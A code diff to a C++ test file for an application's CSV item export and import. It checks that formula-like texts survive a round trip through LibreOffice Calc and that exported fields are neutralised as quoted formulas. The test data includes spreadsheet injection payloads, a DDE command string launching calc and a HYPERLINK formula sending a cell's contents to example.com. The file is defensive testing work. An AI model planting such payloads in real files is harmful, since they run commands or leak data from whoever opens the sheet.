@@ -1,6 +1,6 @@
-// The items file through the items dialog: 导出 and 导入 giving the same items back, a failed
-// export leaving the earlier file whole, the file as spreadsheets save it, repeats and malformed
-// records, and the real save chooser.
+// The items file through the items dialog: 导出 and 导入 giving the same items back, also after a
+// real spreadsheet has opened and saved the file, a failed export leaving the earlier file whole,
+// the file as spreadsheets save it, repeats and malformed records, and the real save chooser.
 #include "items/itemsdlg.h"
 
 #include "appstate/globals.h"
@@ -11,6 +11,7 @@
 #include "store/statements.h"
 #include "tests/items/items_fixture.h"
 #include "tests/support/immutable_file.h"
+#include "tests/support/pump.h"
 
 #include <gtest/gtest.h>
 
@@ -79,7 +80,9 @@ TEST_F(ItemsFileTest, ExportThenImportIntoAFreshTableGivesTheSameItemsInTheSameO
               {L"it's", L"只有换行\n第二行", 5, L"2026-02-10 14:02:33"},
               {L"", L"问候 😀 𠮷 Zoë ß", 0, std::nullopt},
               {L"a,b", L"\"", 0, std::nullopt},
-              {L" 空格 ", L"  ", 0, std::nullopt}});
+              {L" 空格 ", L"  ", 0, std::nullopt},
+              {L"'=x", L"=\"x\"&CHAR(10)", 0, std::nullopt},
+              {L"110101199003077777", L"-2+3\r\n第二行", 1, std::nullopt}});
     const std::vector<StoredItem> before = Stored();
     std::vector<StoredItem> back = before;
     back[1].title = L"";  // a label never given shows empty, and comes back so
@@ -91,18 +94,21 @@ TEST_F(ItemsFileTest, ExportThenImportIntoAFreshTableGivesTheSameItemsInTheSameO
     std::vector<std::function<bool()>> steps;
     Press(steps, exporting, IDC_EXPORT, exporting.exportChooserCalls, 1);
     RunDialog(exporting, steps);
-    EXPECT_EQ(boxes, std::vector<std::wstring>{L"已导出 6 项。"});
+    EXPECT_EQ(boxes, std::vector<std::wstring>{L"已导出 8 项。"});
     EXPECT_FALSE(exporting.m_isDataChanged) << "an export asks for no restart";
-    EXPECT_EQ(exporting.LastExport().exportedItems, 6);
-    // In the list's order, newest first; quoted only where a field needs it.
-    EXPECT_EQ(testing_support::FileBytes(file),
-              std::string("\xEF\xBB\xBF") + kHeader +
-                  u8" 空格 ,  ,0,\r\n"
-                  u8"\"a,b\",\"\"\"\",0,\r\n"
-                  u8",问候 😀 𠮷 Zoë ß,0,\r\n"
-                  u8"it's,\"只有换行\n第二行\",5,2026-02-10 14:02:33\r\n"
-                  u8",\"两行\r\n第二行\",5,2026-02-10 14:02:33\r\n"
-                  u8"公司地址,\"北京市海淀区, \"\"中关村\"\" 5 号\",9,2026-02-09 09:15:00\r\n");
+    // In the list's order, newest first; quoted only where a field needs it; what a spreadsheet
+    // would retype as the formula that shows it.
+    EXPECT_EQ(
+        testing_support::FileBytes(file),
+        std::string("\xEF\xBB\xBF") + kHeader +
+            u8"\"=\"\"110101199003077777\"\"\",\"=\"\"-2+3\"\"&CHAR(13)&CHAR(10)&\"\"第二行\"\"\",1,\r\n"
+            u8"\"=\"\"'=x\"\"\",\"=\"\"=\"\"\"\"x\"\"\"\"&CHAR(10)\"\"\",0,\r\n"
+            u8" 空格 ,  ,0,\r\n"
+            u8"\"a,b\",\"\"\"\",0,\r\n"
+            u8",问候 😀 𠮷 Zoë ß,0,\r\n"
+            u8"it's,\"只有换行\n第二行\",5,2026-02-10 14:02:33\r\n"
+            u8",\"两行\r\n第二行\",5,2026-02-10 14:02:33\r\n"
+            u8"公司地址,\"=\"\"北京市海淀区, \"\"\"\"中关村\"\"\"\" 5 号\"\"\",9,2026-02-09 09:15:00\r\n");
     EXPECT_EQ(before, Stored()) << "the table is only read";
 
     UseItems({});
@@ -117,12 +123,72 @@ TEST_F(ItemsFileTest, ExportThenImportIntoAFreshTableGivesTheSameItemsInTheSameO
     });
     Press(steps, importing, IDC_IMPORT, importing.chooserCalls, 2);
     RunDialog(importing, steps);
-    EXPECT_EQ(boxes, (std::vector<std::wstring>{L"已导出 6 项。", L"已导入 6 项，跳过重复的 0 项。",
-                                                L"已导入 0 项，跳过重复的 6 项。"}));
+    EXPECT_EQ(boxes, (std::vector<std::wstring>{L"已导出 8 项。", L"已导入 8 项，跳过重复的 0 项。",
+                                                L"已导入 0 项，跳过重复的 8 项。"}));
     EXPECT_EQ(Stored(), back) << "labels, contents, counts and times, even the ids";
     EXPECT_EQ(HeatOrder(), heatBefore);
     EXPECT_TRUE(importing.m_isDataChanged);
-    EXPECT_EQ(listed, (std::vector<int>{6, 5, 4, 3, 2, 1})) << "the new rows in the file's order";
+    EXPECT_EQ(listed, (std::vector<int>{8, 7, 6, 5, 4, 3, 2, 1})) << "the new rows in the file's order";
+}
+
+// Texts a spreadsheet retypes or runs, exported, opened and saved as CSV by LibreOffice Calc in a
+// Chinese locale (the host's, started as Wine starts any program), and imported: every item comes
+// back as it was.
+TEST_F(ItemsFileTest, ExportedTextsComeBackWhenASpreadsheetHasOpenedAndSavedTheFile)
+{
+    ASSERT_NE(::GetFileAttributesW(L"Z:\\usr\\bin\\soffice"), INVALID_FILE_ATTRIBUTES)
+        << "LibreOffice Calc (libreoffice-calc-nogui) is not installed";
+    using UnixName = char*(__cdecl*)(const wchar_t*);
+    const auto unixName = reinterpret_cast<UnixName>(reinterpret_cast<void*>(
+        ::GetProcAddress(::GetModuleHandleW(L"kernel32.dll"), "wine_get_unix_file_name")));
+    ASSERT_TRUE(unixName) << "runs under Wine, beside the host's spreadsheet";
+    UseItems({{L"编号", L"007", 3, L"2026-02-09 09:15:00"},
+              {L"110101199003077777", L"1/2"},
+              {L"50%", L"2026-02-09"},
+              {L"=1+1", L"-2+3"},
+              {L"'=", L"=HYPERLINK(\"http://example.com/?\"&A1)"},
+              {L"true", L"+cmd|' /C calc'!A0"},
+              {L"@A", L"=两行\r\n第二行"},
+              {L"１２３", L"1e5"},
+              {L"it's", L"问候 😀 𠮷, \"引号\""}});
+    const std::vector<StoredItem> back = Stored();
+    const std::wstring folder = PathInFolder(L"");
+    const std::wstring file = folder + L"items.csv", saved = folder + L"saved\\items.csv";
+    CTestItemsDlg exporting;
+    exporting.exportPaths = {file};
+    std::vector<std::function<bool()>> steps;
+    Press(steps, exporting, IDC_EXPORT, exporting.exportChooserCalls, 1);
+    RunDialog(exporting, steps);
+
+    char* unixFolder = unixName(folder.c_str());
+    ASSERT_TRUE(unixFolder);
+    const std::string dir = unixFolder;
+    ::HeapFree(::GetProcessHeap(), 0, unixFolder);
+    // Wine hands the host's program no handle to wait on: it says it has ended with a file.
+    std::wstring command = Utf8ToWide(
+        "Z:\\bin\\sh -c \"cd '" + dir + "' && LANG=zh_CN.UTF-8 LC_ALL=zh_CN.UTF-8 timeout 60 soffice " +
+        "-env:UserInstallation=file://" + dir + "profile --headless --infilter=CSV:44,34,76,1 " +
+        "--convert-to 'csv:Text - txt - csv (StarCalc):44,34,76,1' --outdir saved items.csv " +
+        ">soffice.log 2>&1; echo $? >ended.tmp; mv ended.tmp ended\"");
+    STARTUPINFOW startup = {};
+    startup.cb = sizeof(startup);
+    PROCESS_INFORMATION started = {};
+    ASSERT_TRUE(::CreateProcessW(nullptr, &command[0], nullptr, nullptr, FALSE, 0, nullptr, nullptr, &startup,
+                                 &started));
+    const CKernelHandle process(started.hProcess), thread(started.hThread);
+    ASSERT_TRUE(testing_support::PumpUntil(
+        [&] { return ::GetFileAttributesW((folder + L"ended").c_str()) != INVALID_FILE_ATTRIBUTES; }, 70000));
+    EXPECT_EQ(testing_support::FileBytes(folder + L"ended"), "0\n")
+        << testing_support::FileBytes(folder + L"soffice.log");
+
+    UseItems({});
+    CTestItemsDlg importing;
+    importing.paths = {saved};
+    steps.clear();
+    Press(steps, importing, IDC_IMPORT, importing.chooserCalls, 1);
+    RunDialog(importing, steps);
+    EXPECT_EQ(boxes, (std::vector<std::wstring>{L"已导出 9 项。", L"已导入 9 项，跳过重复的 0 项。"}));
+    EXPECT_EQ(Stored(), back) << testing_support::FileBytes(saved);
 }
 
 TEST_F(ItemsFileTest, AnExportThatCannotReplaceTheEarlierFileLeavesItWholeAndSaysWhy)
